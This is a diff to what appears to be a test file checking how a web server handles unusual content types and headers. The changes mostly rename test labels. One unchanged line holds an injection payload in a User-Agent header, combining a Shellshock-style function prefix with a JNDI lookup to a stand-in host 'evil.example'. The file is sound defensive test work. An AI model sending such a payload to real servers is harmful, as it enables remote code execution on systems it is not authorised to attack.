@@ -15,7 +15,7 @@ CONTENT_TYPES = {
     "a multipart form without a boundary": (("multipart/form-data",), 415),
     "any type": (("*/*",), 415),
     "JSON with padding": (("application/jsonp",), 415),
-    "a JSON patch": (("application/merge-patch+json",), 415),
+    "a JSON merge patch": (("application/merge-patch+json",), 415),
     "JSON or text": (("application/json, text/plain",), 415),
     "JSON in quotes": (('"application/json"',), 415),
     "60,000 characters": (("application/" + "j" * 60_000,), 415),
@@ -110,7 +110,7 @@ IGNORED = {
     "a reply only if it is new": ("If-None-Match", "*"),
     "a reply only if it is old": ("If-Unmodified-Since", "yesterday"),
     "code to run on the server": ("User-Agent", "() { :; }; echo ${jndi:ldap://evil.example}"),
-    "nothing, in 100,000 characters": ("X-Note", "n" * 100_000),
+    "100,000 characters": ("X-Note", "n" * 100_000),
 }
 
 HEADERS = [
@@ -127,6 +127,6 @@ HEADERS = [
         for name, values in UNAUTHORIZED.items()
     ),
     *(sending(f"credentials: {name}", "Authorization", value) for name, value in AUTHORIZED.items()),
-    *(sending(f"a header that asks for {name}", header, value) for name, (header, value) in IGNORED.items()),
+    *(sending(f"ignored header: {name}", header, value) for name, (header, value) in IGNORED.items()),
     sending("50 unknown headers", "X-Note", *("n" * 1_000 for _ in range(50))),
 ]
